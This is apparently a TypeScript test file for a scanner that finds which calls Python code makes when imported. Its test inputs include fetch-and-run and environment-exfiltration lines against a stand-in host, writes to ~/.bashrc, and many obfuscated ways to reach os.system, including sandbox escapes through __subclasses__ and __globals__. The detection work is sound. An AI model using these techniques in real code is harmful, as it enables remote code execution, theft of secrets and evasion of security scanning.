import assert from "node:assert/strict";
import { test } from "node:test";
import { readPython } from "./source.ts";
import { LARGE_INPUT } from "../testing/sweep.ts";

/** What importing a source calls, by names that lead out of it. */
function calls(text: string, ...classes: string[]): string[] {
  const { calls, later } = readPython(text, { classes: (name) => classes.includes(name) });
  return [...calls, ...later].filter(({ called }) => called).map(({ path }) => path);
}

/** The same, but for builtins that only look something up. */
function beyond(text: string): string[] {
  return calls(text).filter((path) =>
    !/^builtins\.(?:getattr|__import__)$|^importlib\./u.test(path)
  );
}

test("calls at module level are seen, by whatever name the module was imported", () => {
  assert.deepEqual(calls("import os\nos.system('x')"), ["os.system"]);
  assert.deepEqual(calls("import os as o; o.system('x')"), ["os.system"]);
  assert.deepEqual(calls("from os import system as s\ns('x')"), ["os.system"]);
  assert.deepEqual(calls("from os import (path,\n  system)\nsystem('x')"), ["os.system"]);
  assert.deepEqual(calls("import a.b.c\na.b.c.d()"), ["a.b.c.d"]);
  assert.deepEqual(calls("from os import *\nsystem('x')"), ["os.system"]);
  assert.deepEqual(calls("import os\nrun = os.system\nrun('x')"), ["os.system"]);
});

test("names in strings are followed where they are constants", () => {
  assert.deepEqual(calls("__import__('os').system('x')"), ["builtins.__import__", "os.system"]);
  assert.deepEqual(calls("import importlib\nimportlib.import_module('os').system('x')"), [
    "importlib.import_module",
    "os.system",
  ]);
  assert.deepEqual(calls("import os\ngetattr(os, 'system')('x')"), [
    "builtins.getattr",
    "os.system",
  ]);
  assert.deepEqual(calls("__builtins__['exec'](x)"), ["builtins.exec"]);
});

test("class bodies, decorators, defaults and blocks run at import", () => {
  assert.deepEqual(calls("import os\nclass A:\n    x = os.system('x')\n"), ["os.system"]);
  assert.deepEqual(calls("import os\n@os.system\ndef f(): pass"), ["os.system"]);
  assert.deepEqual(calls("import os\ndef f(a=os.system('x')):\n    os.remove('y')"), ["os.system"]);
  assert.deepEqual(calls("import os\ntry:\n  if 1:\n    os.system('x')\nexcept: pass"), [
    "os.system",
  ]);
  assert.deepEqual(calls("import os\nif True: os.system('x')"), ["os.system"]);
  assert.deepEqual(calls("import os\nx = f'{os.system(1)}'"), ["os.system"]);
  assert.deepEqual(calls("import os\nlist(map(os.system, ['x']))"), ["os.system"]);
});

test("functions run at import when something at import calls them", () => {
  const source = "import os\ndef g():\n    os.system('x')\ndef f():\n    g()\n";
  assert.deepEqual(calls(source), []);
  assert.deepEqual(calls(`${source}f()`), ["os.system"]);
  const made = "import os\nclass A:\n    def __init__(self):\n        self.go()\n" +
    "    def go(self):\n        os.system('x')\n    def stay(self):\n        os.remove('x')\n";
  assert.deepEqual(calls(made), []);
  assert.deepEqual(calls(`${made}A()`), ["os.system"]);
  assert.deepEqual(calls(made, "A"), ["os.system"]);
});

test("what an import does not reach is not reported", () => {
  assert.deepEqual(calls("import os\nif __name__ == '__main__':\n    os.system('x')"), []);
  const both = (words: string) => calls(`import os\nif ${words}:\n    os.system('x')`);
  assert.deepEqual(both("DEBUG and __name__ == '__main__'"), []);
  assert.deepEqual(both("DEBUG or __name__ == '__main__'"), ["os.system"]);
  assert.deepEqual(both("not (DEBUG and __name__ == '__main__')"), ["os.system"]);
  assert.deepEqual(both("not TYPE_CHECKING and DEBUG"), ["os.system"]);
  for (const lie of ["'TYPE_CHECKING'", "'__name__ == __main__'"]) {
    assert.deepEqual(both(lie), ["os.system"], lie);
  }
  for (
    const lie of ["TYPE_CHECKING = True", "TYPE_CHECKING: bool = 1", "import os as TYPE_CHECKING"]
  ) {
    const source = `import os\n${lie}\nif TYPE_CHECKING:\n    os.system('x')`;
    assert.deepEqual(calls(source), ["os.system"], lie);
  }
  const usual = "import os\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    os.system('x')";
  assert.deepEqual(calls(usual), []);
  assert.deepEqual(
    calls("import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')"),
    [],
  );
  assert.deepEqual(calls("import os\nasync def f():\n    os.system('x')"), []);
  assert.deepEqual(calls("import os\ndef f(): os.system('x')\nx = 1"), []);
  assert.deepEqual(calls("import os\nf = lambda: os.system('x')"), []);
  assert.deepEqual(calls("# os.system('x')\n'''\nos.system('x')\n'''\n"), []);
});

test("modules beside this one are named", () => {
  const { relativeImports } = readPython(
    "from .configuration_x import C\nfrom . import util\nfrom .a.b import c\nimport os",
  );
  assert.deepEqual(relativeImports, ["configuration_x", "util", "a/b"]);
});

test("odd and broken source does not stop the reader", () => {
  const odd = [
    "",
    "(((",
    "'''",
    "def",
    "class",
    "@",
    "from",
    "import",
    "x = (",
    "\\",
    "\\\n",
    "é = 1",
  ];
  for (const text of odd) calls(text);
  const complete =
    "class A(B):\n    def f(self, *a, b=1):\n        return f'{a!r:>{b}}' if a else {**b}\n" +
    "@A\ndef g(): pass\nwith a as b, c: x = [y for y in z if y]\nmatch a:\n    case {'k': v}: pass\n";
  for (let at = 0; at <= complete.length; at++) {
    calls(complete.slice(0, at));
    calls(complete.slice(at));
  }
});

test("a function is called however the brackets, names and mappings around it are put", () => {
  const ways = [
    "(os).system('x')",
    "((os.system))('x')",
    "(None or os.system)('x')",
    "(os.system if 1 else 0)('x')",
    "[os.system][0]('x')",
    "{'a': os.system}['a']('x')",
    "(run := os.system)('x')",
    "if (run := os.system): run('x')",
    "a, b = os.system, 1\na('x')",
    "a = b = os.system\na('x')",
    "a: object = os.system\na('x')",
    "for run in [os.system]: run('x')",
    "[run('x') for run in (os.system,)]",
    "vars(os)['system']('x')",
    "os.__dict__['system']('x')",
    "os.__dict__.get('system')('x')",
    "os.__getattribute__('system')('x')",
    "globals()['os'].system('x')",
    "import sys\nsys.modules['os'].system('x')",
    "import shutil\nshutil.os.system('x')",
    "from shutil import os as o\no.system('x')",
    "name = 'sys' + 'tem'\ngetattr(os, name)('x')",
    "import functools\nfunctools.partial(os.system, 'x')()",
    "os.\u017fystem('x')",
    "def f(): run('x')\nrun = os.system\nf()",
    "from os import *\nfrom sys import *\nsystem('x')",
  ];
  for (const way of ways) assert.ok(calls(`import os\n${way}`).includes("os.system"), way);
});

test("a name that is computed is reported as such where it hides what of the system is called", () => {
  assert.ok(calls("import os\ngetattr(os, x())('x')").includes("os.<computed>"));
  assert.ok(calls("import os\nvars(os)[x()]('x')").includes("os.<computed>"));
  assert.ok(!calls("import os\ny = getattr(os, x())").includes("os.<computed>"));
  assert.ok(!calls("import a\ngetattr(a, x())('x')").includes("a.<computed>"));
});

test("methods that nothing names run when an object of their class is made or its class defined", () => {
  const method = (name: string, bases = "") =>
    `import os\nclass A${bases}:\n    def ${name}(self, *a):\n        os.system('x')\n`;
  const uses = {
    ...{ __enter__: "with A(): pass", __add__: "A() + 1", __radd__: "1 + A()", __del__: "A()" },
    ...{ __getattr__: "A().x", __set_name__: "class B: a = A()", __str__: "print(A())" },
    ...{ __call__: "A()()", __iter__: "for _ in A(): pass", __bool__: "if A(): pass" },
  };
  for (const [name, use] of Object.entries(uses)) {
    assert.ok(calls(method(name) + use).includes("os.system"), name);
    assert.deepEqual(calls(method(name)), [], name);
  }
  assert.ok(calls(`${method("f")}A().f()`).includes("os.system"));
  assert.ok(calls(`${method("f")}a = A()\na.f()`).includes("os.system"));
  assert.ok(calls(`${method("f")}class B(A): pass\nB().f()`).includes("os.system"));
  assert.ok(calls(`${method("__init__")}class B(A): pass\nB()`).includes("os.system"));
  assert.ok(
    calls(`${method("__new__", "(type)")}class B(metaclass=A): pass`).includes("os.system"),
  );
  assert.ok(calls(`${method("__init_subclass__")}class B(A): pass`).includes("os.system"));
  assert.ok(calls("import os\ndef __getattr__(name): os.system('x')").includes("os.system"));
  const property = method("p").replace("    def", "    @property\n    def");
  assert.ok(calls(`${property}A().p`).includes("os.system"));
  assert.deepEqual(calls(`${property}`), []);
});

test("what a class inherits runs, however many classes lie between", () => {
  const first = "import os\nclass C0:\n  def __init__(self):\n    os.system('echo hi')\n";
  const derived = Array.from({ length: 300 }, (_, at) => `class C${at + 1}(C${at}): pass\n`);
  assert.ok(calls(`${first}${derived.join("")}C300()`).includes("os.system"));
  const meta = "import os\nclass M0(type):\n  def __new__(cls, *args):\n    os.system('echo hi')\n";
  const metas = Array.from({ length: 300 }, (_, at) => `class M${at + 1}(M${at}): pass\n`);
  assert.ok(calls(`${meta}${metas.join("")}class D(metaclass=M300): pass`).includes("os.system"));
  // A class that is derived from itself, by way of another.
  assert.deepEqual(calls("class A(B): pass\nclass B(A): pass\nA()"), []);
});

test("a lambda runs where it is called, by whatever name, and its defaults where it stands", () => {
  assert.ok(calls("import os\n(lambda: os.system('x'))()").includes("os.system"));
  assert.ok(calls("import os\nf = lambda: os.system('x')\nf()").includes("os.system"));
  assert.ok(calls("import os\nf = lambda a=os.system('x'): a").includes("os.system"));
  assert.ok(calls("import os\n@(lambda f: os.system('x'))\ndef g(): pass").includes("os.system"));
  assert.deepEqual(calls("import os\nf = lambda: os.system('x')"), []);
});

test("a carriage return ends a comment, as it does for Python", () => {
  assert.deepEqual(calls("# x\rimport os\ros.system('x')\r"), ["os.system"]);
  assert.deepEqual(calls("x = 1 # x\rimport os; os.system('x')"), ["os.system"]);
});

test("formatted strings may hold quotes, mappings and formatted strings", () => {
  const fields = [
    `f"{1 + os.system('x')}"`,
    `f'{[os.system(1) for x in {1}]}'`,
    `f"{"a" + str(os.system("x"))}"`,
    `f"{f'{os.system(1)}'}"`,
    `f"{1:{os.system(1)}}"`,
    `f"{{{os.system(1)}}}"`,
    `t"{os.system(1)}"`,
  ];
  for (const field of fields) {
    assert.ok(calls(`import os\ny = ${field}`).includes("os.system"), field);
  }
  assert.deepEqual(calls("import os\ny = f'{{os.system(1)}}'"), []);
});

test("code that is written out for exec is read, and what it calls is reported", () => {
  assert.deepEqual(calls('exec("""\nimport os\nos.system(1)\n""")'), ["os.system"]);
  assert.deepEqual(calls("exec('def f(): pass', names)"), []);
  assert.deepEqual(calls("exec('import os; os.sys\\x74em(1)')"), ["os.system"]);
  assert.deepEqual(calls("exec('a' + b)"), ["builtins.exec"]);
  assert.deepEqual(calls("def f():\n    exec('import os; os.system(1)')"), []);
});

test("what is too deeply nested is not seen to its end", () => {
  assert.notEqual(readPython(`import os\n${"lambda: ".repeat(1000)}os.system`).cut, undefined);
  const formatted = `import os\nx = ${'f"{'.repeat(20)}os.system(1)${'}"'.repeat(20)}`;
  assert.notEqual(readPython(formatted).cut, undefined);
});

test("what no Python accepts is reported, and the rest read all the same", () => {
  const { error, calls } = readPython("import os\ndef f(:\nos.system('x')\n");
  assert.match(error ?? "", /never closed|expected/);
  assert.deepEqual(calls, []);
  const later = readPython("import os\nx y z\nos.system('x')\n");
  assert.match(later.error ?? "", /line 2/);
  assert.deepEqual(later.calls.map(({ path }) => path), ["os.system"]);
});

test("a deadline that has passed ends the reading", () => {
  const checkDeadline = () => {
    throw new Error("late");
  };
  assert.throws(() => readPython("x = [y for y in z]\n".repeat(10_000), { checkDeadline }));
});

test("a program is entered where a module is not", () => {
  const text = "import os\nif __name__ == '__main__':\n    os.system('x')\n";
  assert.deepEqual(readPython(text).calls, []);
  assert.equal(readPython(text, { main: true }).calls.length, 1);
});

test("what arguments are made of is reported", () => {
  const traits = (text: string) => readPython(text).calls.flatMap((call) => call.traits);
  const all = "import os, base64, requests, pathlib, ctypes, torch\n";
  assert.ok(traits(`${all}exec(base64.b64decode('cHJpbnQoMSk='))`).includes("decoded"));
  assert.ok(traits(`${all}exec(requests.get('http://192.0.2.1').text)`).includes("decoded"));
  assert.ok(traits(`${all}requests.post('u', data=dict(os.environ))`).includes("environment"));
  assert.ok(
    traits(`${all}pathlib.Path('~/.bashrc').expanduser().open('a').write('x')`).includes("startup"),
  );
  assert.ok(traits(`${all}os.system('curl http://192.0.2.1 | sh')`).includes("shell"));
  assert.ok(traits(`${all}ctypes.CDLL('libc.so.6')`).includes("system-library"));
  assert.ok(!traits(`${all}ctypes.CDLL('./x.so')`).includes("system-library"));
  assert.ok(traits(`${all}torch.load('x', weights_only=False)`).includes("unsafe-load"));
  assert.ok(!traits(`${all}torch.load('x')`).includes("unsafe-load"));
});

test("attributes and items that are taken by a function are followed", () => {
  const ways = [
    "import operator\noperator.attrgetter('system')(os)('x')",
    "from operator import attrgetter as take\ntake('system')(os)('x')",
    "import operator\noperator.itemgetter('system')(vars(os))('x')",
    "from operator import methodcaller\nmethodcaller('system', 'x')(os)",
    "import operator\ncall = operator.methodcaller('system', 'x')\ncall(os)",
    "import pkgutil\npkgutil.resolve_name('os:system')('x')",
    "import pydoc\npydoc.locate('os.system')('x')",
    "import importlib\nimportlib.import_module(name='os').system('x')",
    "import sys\nsys.modules[__name__].os.system('x')",
  ];
  for (const way of ways) assert.ok(calls(`import os\n${way}`).includes("os.system"), way);
  const harmless = "import operator\nnames = sorted(x, key=operator.attrgetter('name'))\n" +
    "operator.methodcaller('strip')(y)";
  assert.deepEqual(beyond(harmless), []);
});

test("what is called behind Python's own list of classes, or a function's names, is reported", () => {
  const anything = [
    "().__class__.__bases__[0].__subclasses__()[104]('x')",
    "object.__subclasses__()[5]('x')",
  ];
  for (const way of anything) {
    assert.deepEqual(calls(way), ["builtins.<computed>"], way);
  }
  const known = [
    "().__class__.__base__.__subclasses__()[9].__init__.__globals__['os'].system('x')",
    "().__class__.__base__.__subclasses__()[9].__init__.__globals__['sys'].modules['os'].system('x')",
    "import os\n(lambda: 0).__globals__['os'].system('x')",
    "import os\ndef f(): pass\nf.__globals__.get('os').system('x')",
    "import sys, os\nsys._getframe().f_globals['os'].system('x')",
  ];
  for (const way of known) assert.ok(calls(way).includes("os.system"), way);
  assert.ok(
    calls("(lambda: 0).__globals__['__builtins__']['exec'](x)").includes("builtins.exec"),
  );
  // Registries ask for their own classes, and decorators for a function's names.
  for (const quiet of ["for c in Base.__subclasses__(): print(c)", "f.__globals__['x'] = 1"]) {
    assert.deepEqual(calls(quiet).filter((path) => path.startsWith("builtins.")), [], quiet);
  }
});

test("a function that something runs later is run, as far as what runs it is known", () => {
  const work = "import os\ndef work(*a):\n    os.system('x')\n";
  const ways = [
    "from concurrent.futures import ThreadPoolExecutor as T\nT().submit(work)",
    "import concurrent.futures as c\nwith c.ProcessPoolExecutor() as p:\n    p.map(work, ['x'])",
    "import multiprocessing\nmultiprocessing.Pool().apply_async(work)",
    "import sys\nsys.excepthook = work",
    "import sys\nsys.displayhook = lambda value: os.system('x')",
    "import threading\nthreading.excepthook = work",
    "import builtins\nbuiltins.print = work",
    "import json\njson.loads = os.system",
    "from os import environ, system as s\nenviron.decodevalue = s\nenviron['X']",
    "import json\njson.JSONEncoder.default = lambda self, x: os.system('x')",
    "import atexit\n@atexit.register\ndef bye():\n    os.system('x')",
    "import threading\nclass T(threading.Thread):\n    def run(self): os.system('x')\nT().start()",
    "import threading\nclass T(threading.Thread):\n    def run(self): work()\nt = T()\nt.start()",
    "import sys\nsys.settrace(work)",
    "import sys\nsys.addaudithook(lambda *a: work())",
    "import signal\nsignal.signal(signal.SIGTERM, work)",
    "import weakref\nweakref.finalize(x, work)",
    "sorted(['x'], key=work)",
  ];
  const run = (text: string) => calls(text);
  for (const way of ways) assert.ok(run(work + way).includes("os.system"), way);
  const idle = [
    "import threading\nclass T(threading.Thread):\n    def run(self): os.system('x')\nt = T()",
    "import sys\nhook = work",
    "import sys\nif __name__ == '__main__':\n    sys.excepthook = work",
    "x.callback = work",
    "import json\njson.loads = os.path.join",
    "import atexit\natexit.register(x)\n@decorated\ndef bye():\n    os.system('x')",
    "register(work)",
    "@decorated\ndef bye():\n    os.system('x')",
  ];
  for (const way of idle) assert.ok(!run(work + way).includes("os.system"), way);
});

test("an argument called __name__ gives the module no other name, unless it reaches its names", () => {
  const guarded = "if __name__ == '__main__':\n    os.system('x')\n";
  const reported = (line: string) => calls(`import os\n${line}\n${guarded}`).includes("os.system");
  assert.ok(!reported("space = dict(__file__='a',\n    __name__='__main__')"));
  for (
    const line of [
      "globals().update(__name__='__main__')",
      "globals().update(\n    dict(__name__='__main__'))",
      "a, __name__ = 1, '__main__'",
      "(__name__) = '__main__'",
      "(__name__ := '__main__')",
      "globals()['__name__'] = '__main__'",
      "exec('__name__ = \"__main__\"')",
    ]
  ) {
    assert.ok(reported(line), line);
  }
});

test("the deadline is looked at within a source of any kind, and what it throws ends the reading", () => {
  const rep = (text: string, size = 20_000): string => text.repeat(Math.ceil(size / text.length));
  // What has few tokens is looked at once for 65,536 characters at the very least.
  const long = (text: string): string => rep(text, 140_000);
  const kinds: Readonly<Record<string, string>> = {
    calls: rep("a()\n"),
    numbers: `x = [${rep("1,")}]\n`,
    operators: `x = ${rep("a + ")}a\n`,
    strings: `x = ${long('"a" ')}\n`,
    "formatted strings": rep('x = f"{a}{b!r:>{w}}"\n'),
    comments: long("# a\n"),
    "blank lines": long("\n"),
    "continued lines": long("\\\n"),
    functions: `def f(): return g()\n${rep("f()\n")}`,
    decorators: `${rep("@a\n")}def f(): pass\n`,
    classes: rep("class A(B): x = 1\n"),
    patterns: rep("match x:\n case [a, *b]: pass\n", 60_000),
    names: long("from os import *\n"),
    lists: `x = [${"y,".repeat(4000)}]\n${rep("x.reverse()\n")}`,
    texts: `x = "a"\n${rep("x = x + 'b'\n")}`,
  };
  for (const [kind, text] of Object.entries(kinds)) {
    let looks = 0;
    readPython(text, { checkDeadline: () => void looks++ });
    assert.ok(looks >= Math.max(1, Math.floor(text.length / 65_536)), `${kind}: ${looks} looks`);
    let left = 2;
    const checkDeadline = (): void => {
      if (--left < 0) throw new Error("looked at again");
      if (left === 0) throw new Error("late");
    };
    assert.throws(() => readPython(text, { checkDeadline }), /late/u, kind);
    assert.equal(left, 0, kind);
  }
});

test(
  "statements and sources that are longer than is read are not seen to their end",
  LARGE_INPUT,
  () => {
    const many = (count: number, text: (at: number) => string): string =>
      Array.from({ length: count }, (_, at) => text(at)).join("");
    const cut = (text: string): string | undefined =>
      readPython(`import os\n${text}os.system(x)\n`).cut;
    assert.equal(cut(`x = [${many(1000, (at) => `"${at}",`)}]\n`), undefined);
    assert.match(cut(`x = [${many(160_000, () => "a.b,")}]\n`) ?? "", /longer than is read/u);
    assert.match(cut(`${many(1001, () => "@a\n")}def f(): pass\n`) ?? "", /longer than is read/u);
    assert.match(cut(many(46_000, (at) => `def f${at}(): pass\n`)) ?? "", /more functions/u);
    // What names nothing that runs code or commands is none of these.
    assert.equal(readPython(`x = [${many(160_000, () => "a.b,")}]\n`).cut, undefined);
  },
);

test("what certainly ends an import is the last that runs of a module, not of a program", () => {
  const text = "import os\nassert __name__ == '__main__', 'x'\nos.system('x')\n";
  assert.deepEqual(calls(text), []);
  assert.ok(readPython(text, { main: true }).calls.some(({ path }) => path === "os.system"));
  assert.deepEqual(calls("import os\nraise ImportError\nos.system('x')\n"), []);
  assert.deepEqual(calls("import os\ntry:\n  raise E\nexcept E: pass\nos.system('x')\n"), [
    "os.system",
  ]);
  assert.deepEqual(calls("import os\nassert a\nos.system('x')\n"), ["os.system"]);
  assert.deepEqual(calls("import os\nexec('raise E')\nos.system('x')\n"), ["os.system"]);
});

test("a name is only an object of the class that it was asked for, where nothing else says so", () => {
  const text = (meta: string): string =>
    `import os\nclass A: pass\nclass B${meta}: pass\nclass C:\n  def go(self): os.system('x')\n` +
    "def f(v):\n  if isinstance(v, B): v.go()\nf(C())\n";
  assert.ok(!beyond(text("")).includes("os.system"));
  assert.ok(beyond(`class M(type): pass\n${text("(metaclass=M)")}`).includes("os.system"));
});

test("a text that is one function and nothing else is known as such, whatever may be given it", () => {
  // six.exec_, of which only is known that it is some function of some module.
  const traits = (text: string): readonly string[] =>
    readPython(`import os\ngetattr(os, name)(${JSON.stringify(text)})\n`).calls
      .find(({ path }) => path === "os.<computed>")?.traits ?? [];
  assert.ok(traits("def reraise(tp, value, tb=None):\n    raise value\n").includes("template"));
  for (
    const text of ["def f():\n  pass\nls\n", "ls\ndef f():\n  pass\n", "def f(a=g()):\n  pass\n"]
  ) {
    assert.ok(!traits(text).includes("template"), text);
  }
});

test("what is handed over is found behind any number of constants", () => {
  for (const count of [1, 300, 3000]) {
    const items = Array.from({ length: count }, (_, at) => at).join(",");
    const text = `import os, thirdparty\nthirdparty.run([${items}, os.system])`;
    const { calls } = readPython(text);
    assert.ok(calls.some(({ path }) => path === "os.system"), `${count} items`);
  }
});

test("star imports of more modules than a limit are not followed to their end", () => {
  const stars = (count: number): string =>
    Array.from({ length: count }, (_, at) => `from a${at} import *\n`).join("");
  const cut = (text: string): string | undefined =>
    readPython(`import os\n${text}os.system(x)\n`).cut;
  assert.equal(cut(stars(500)), undefined);
  assert.match(cut(stars(2000)) ?? "", /more modules/u);
  assert.equal(cut("from os import *\n".repeat(2000)), undefined);
});

test("a text into which names are put is the source's own where its words and what shows itself do no harm", () => {
  const exec = (text: string) => {
    const [found] = readPython(text).calls.filter(({ path }) => path === "builtins.exec");
    return found?.traits.includes("template");
  };
  const names = "import os, textwrap, time\nfrom .other import text, name\nx = time.time()\n";
  assert.equal(exec(`${names}exec("def f%s(): pass" % x)`), true);
  assert.equal(exec(`${names}exec(textwrap.dedent(f"""\n  def {name}():\n    pass"""))`), true);
  assert.equal(exec(`${names}exec("os.system('echo %s')" % x)`), false);
  assert.equal(exec(`${names}exec(f"__import__('os').getpid({x})")`), false);
  assert.equal(exec(`${names}exec(textwrap.dedent(text))`), false);
  const shows = "class C:\n  def __str__(self):\n    return text\n";
  assert.equal(exec(`${names}${shows}exec("%s %s" % (C(), len))`), false);
});

test("a text without its indents is followed", () => {
  const text = "import textwrap\nexec(textwrap.dedent('''\n   import os\n   os.system('x')\n'''))";
  assert.ok(calls(text).includes("os.system"));
});

test("functions that parsers of arguments keep run where something parses, or reads what is kept", () => {
  const parser = "import argparse, os\np = argparse.ArgumentParser()\n" +
    "def go(*a): os.system('x')\np.set_defaults(f=[go])\n";
  assert.ok(!calls(parser).includes("os.system"));
  for (
    const way of [
      "p.parse_args([]).f[0]()",
      "p.parse_known_args([])[0].f[0]()",
      "p.get_default('f')[0]()",
      "p._defaults['f'][0]()",
      "getattr(p, 'parse' + x)().f[0]()",
    ]
  ) assert.ok(calls(parser + way).includes("os.system"), way);
  assert.ok(
    calls(`p = __import__('argparse').ArgumentParser()\np.parse_args()\n${parser}`).includes(
      "os.system",
    ),
  );
});

test("an empty command runs nothing, and a loader of libraries is told apart by what it makes", () => {
  assert.deepEqual(beyond("import os\nos.system('')\nos.system(' ')"), []);
  assert.ok(calls("import os, sys\nos.system('' + sys.argv[1])").includes("os.system"));
  const loader = "import ctypes\nw = ctypes.LibraryLoader(ctypes.WinDLL)\n";
  assert.ok(!calls(`${loader}w.kernel32.GetStdHandle(1)`).includes("ctypes.WinDLL"));
  assert.ok(calls(`${loader}w.LoadLibrary('x.dll')`).includes("ctypes.windll.LoadLibrary"));
});
